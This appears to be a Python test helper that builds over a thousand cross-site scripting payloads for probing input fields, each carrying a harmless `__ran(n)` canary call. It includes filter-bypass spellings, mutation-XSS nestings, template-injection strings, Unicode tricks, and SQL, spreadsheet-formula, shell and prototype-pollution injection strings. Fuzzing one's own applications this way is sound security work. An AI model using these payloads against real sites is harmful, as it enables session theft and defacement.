"""More than a thousand scripts that somebody could write into a field.

Every one calls `__ran(number)` if a page ever takes it for more than words, and holds that call
literally, so that what a page shows can be counted as well. Sorted: the shortest first.
"""
import html
import itertools
import urllib.parse

# What loads, opens or moves by itself, and the event that tells of it.
BY_ITSELF = ["img src=x on{}", "image src=x on{}", "svg on{}", "body on{}", "video src=x on{}",
             "audio src=x on{}", "iframe on{}", "object data=x on{}", "embed src=x on{}",
             "details open on{}", "input autofocus on{}", "select autofocus on{}",
             "textarea autofocus on{}", "button autofocus on{}", "marquee on{}", "style on{}",
             "script src=x on{}", "link rel=stylesheet href=x on{}", "p style=animation:x on{}",
             "frameset on{}", "math on{}", "dialog open on{}", "a on{}", "b on{}", "p on{}",
             "x on{}",
             "form on{}", "table on{}", "q on{}", "hr on{}", "div on{}", "ul on{}", "bgsound on{}",
             "track src=x on{}", "slot on{}", "ruby on{}", "input on{}", "svg g on{}", "u on{}"]
EVENTS = ["load", "error", "focus", "toggle", "start", "pageshow", "loadstart", "animationstart",
          "begin", "resize", "scroll", "pointerover", "mouseover", "click", "beforeprint",
          "transitionend", "wheel", "hashchange", "input", "focusin"]
# How one tag is spelled so that a filter overlooks it; a browser's parser does not.
SPELLINGS = ["<img src=x onerror={}>", "<IMG SRC=x ONERROR={}>", "<img/src=x/onerror={}>",
             "<img\nsrc=x\nonerror\n=\n{}>", "<img\tsrc=x\tonerror={}\t>",
             "<img src=x onerror='{}'>",
             '<img src=x onerror="{}">', "<img src=x onerror=`{}`>", "<<img src=x onerror={}>",
             "<img src=x onerror={} //", "<img src onerror={}>", "<svg><image href=x onerror={}>",
             "<svg/onload={}>", "<svg onload={}//", "<svg><script>{}</script>",
             "<script>{}</script>",
             "<script>{}//", "<script>{}</script >", "<script\n>{}</script\n>",
             "<ſcript>{}</ſcript>",
             "<script/x>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<body onload={}>",
             "<style onload={}></style>", "<details open ontoggle={}>",
             "<input autofocus onfocus={}>",
             "<video><source onerror={}>", "<iframe srcdoc='<script>parent.{}</script>'>",
             "<iframe srcdoc='&lt;script>parent.{}&lt;/script>'>", "<x contenteditable onblur={}>x"]
# Where a value could stand: each ends what is around it first.
ENDINGS = ['">', "'>", "`>", "-->", "--!>", "</textarea>", "</title>", "</style>", "</script>",
           "</template>", "</noscript>", "</select>", "</option>", "</svg>", "</math>", "]]>", "?>",
           "%>", "*/", "</xmp>", "</plaintext>", '" x="', "\\\">", "&quot;>", "\n\n"]
ADDRESSES = ["javascript:{}", "JaVaScRiPt:{}", "java\nscript:{}", "java\tscript:{}",
             " javascript:{}", "javascript&colon;{}", "javascript&#58;{}", "&#106;avascript:{}",
             "javascript://%0a{}", "javascript:/*--></title>*/{}", "vbscript:{}",
             "data:text/html,<script>parent.{}</script>", "data:text/javascript,{}",
             "feed:javascript:{}", "view-source:javascript:{}", "jar:javascript:{}", "//x/{}"]
PLACES = ["{}", "<a href='{}'>x</a>", "<iframe src='{}'></iframe>", "<object data='{}'></object>",
          "<embed src='{}'>", "<form action='{}'><button>x</form>", "<button formaction='{}'>x",
          "<svg><a xlink:href='{}'><text y=9>x</text></a></svg>", "<base href='{}'>",
          "<meta http-equiv=refresh content='0;url={}'>", "<link rel=stylesheet href='{}'>",
          "<script src='{}'></script>", "<body background='{}'>", "[x]({})", "![x]({})",
          "<math href='{}'>x</math>", "<area href='{}'>",
          "<svg><animate attributeName=href values='{}'/></svg>", "<svg><use href='{}'/></svg>"]
# What is harmless until it is parsed a second time.
MUTATING = ["<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>",
            "<noscript><p title='</noscript>{}'>", "<svg></p><style><a id='</style>{}'>",
            "<form><math><mtext></form><form><mglyph><style></math>{}",
            "<table><td><svg><desc><table><td>{}", "<select><iframe></select>{}",
            "<template><style></template>{}</style>",
            "<svg><foreignObject>{}</foreignObject></svg>",
            "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
            "<xmp><p title='</xmp>{}'>", "<!--<!-->{}-->", "<![CDATA[<]]>{}", "<listing>&lt;{}",
            "<option><style></option></select>{}</style>", "<a title='&lt;/a>{}'>",
            "<p is='x'>{}</p>", "<svg><title>{}</title></svg>", "<br/><style>{}</style>"]
TEMPLATES = ["{{{{{}}}}}", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<%={}%>",
             "#{{{}}}",
             "[[{}]]", "{{%raw%}}{}{{%endraw%}}", "<p v-html='{}'>", "<p @vnode-mounted='{}'>",
             "<p :onclick='{}'>", "<p v-on:click='{}'>", "{{{{$on.constructor('{}')()}}}}",
             "<p ng-init='{}'>", "<p x-init='{}'>", "<p hx-on:load='{}'>", "{{{{{{{}}}}}}}",
             "<component :is='{}'/>", "<slot v-bind='{}'>", "{{{{>{}}}}}", "{{{{&{}}}}}",
             "<template v-if='{}'>", "<#assign x={}>"]
CODE = ["');{}//", '");{}//', "`);{}//", "\\');{}//", "';{};'", '";{};"', "`+{}+`", "${{{}}}`",
        "*/{}/*", "\u2028{}", "\u2029{}", "+{}+", "}}{}{{", "alert`1`;{}", "=cmd|'{}'!A1",
        "@import'javascript:{}';", "p{{background:url(javascript:{})}}", "expression({})",
        "-moz-binding:url({})", "' OR {}--", "'; DROP TABLE message;--{}", "$(echo {})", "|{}|",
        "__proto__[onload]={}", '{{"__proto__":{{"onload":"{}"}}}}', "constructor.prototype={}",
        "%0d%0aX: {}", "&#x0;{}", "%00{}", "\\u003cscript\\u003e{}", "\\x3cscript\\x3e{}"]
# Drawn as nothing, or the other way round.
UNSEEN = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u034f", "\u3164",
          "\ufe0f", "\U000e0001", "\u0301" * 8]
TURNING = ["\u202e", "\u202d", "\u202b", "\u2066", "\u2067", "\u200f", "\u200e", "\u061c"]
LOOKALIKE = str.maketrans("<>'\"/=", "＜＞＇＂／＝")


def _shapes():
    """Every shape with a place for the call in it."""
    for tag, event in itertools.product(BY_ITSELF, EVENTS):
        yield f"<{tag.format(event)}={{}}>"
    yield from SPELLINGS
    for ending, inner in itertools.product(ENDINGS, ("<img src=x onerror={}>", "<svg onload={}>",
                                                     "<script>{}</script>")):
        yield ending.replace("{", "{{").replace("}", "}}") + inner
    for place, address in itertools.product(PLACES, ADDRESSES):
        yield place.replace("{}", address)
    for outer, inner in itertools.product(MUTATING, ("<img src=x onerror={}>",
                                                     "<script>{}</script>")):
        yield outer.replace("{}", inner)
    yield from TEMPLATES
    yield from CODE
    for mark in UNSEEN:
        yield f"<scr{mark}ipt>{{}}</script>"
        yield f"{mark}<img src=x onerror={{}}>"
        yield f"java{mark}script:{{}}"
    for mark in TURNING:
        yield f"{mark}<img src=x onerror={{}}>"
    for shape in SPELLINGS[:6]:
        yield shape.translate(LOOKALIKE)


def _encoded(text, call):
    """The same words as another layer would write them; the call stays legible."""
    before, after = text.split(call, 1)
    for encode in (html.escape, urllib.parse.quote,
                   lambda part: "".join(f"&#{ord(c)};" for c in part),
                   lambda part: "".join(f"\\u{ord(c):04x}" for c in part),
                   lambda part: urllib.parse.quote(urllib.parse.quote(part))):
        yield encode(before) + call + encode(after)


def payloads():
    """[(number, text)], all different."""
    texts, number = [], 0
    for shape in _shapes():
        number += 1
        texts.append((number, shape.format(f"__ran({number})")))
    for shape in (*SPELLINGS[:4], SPELLINGS[14], SPELLINGS[15], "<a href='javascript:{}'>x</a>"):
        for way in range(5):
            number += 1
            call = f"__ran({number})"
            texts.append((number, list(_encoded(shape.format(call), call))[way]))
    assert len({text for _, text in texts}) == len(texts) >= 1000
    assert all(f"__ran({n})" in text for n, text in texts)
    return sorted(texts, key=lambda one: len(one[1]))


def fitting(most):
    """Those that fit into a field of so many characters."""
    return [text for _, text in payloads() if len(text) <= most]


def packed(most):
    """The same, as many to a text as fit into it."""
    texts, line = [], ""
    for text in fitting(most):
        if line and len(line) + 1 + len(text) > most:
            texts.append(line)
            line = ""
        line = f"{line} {text}" if line else text
    return [*texts, line]
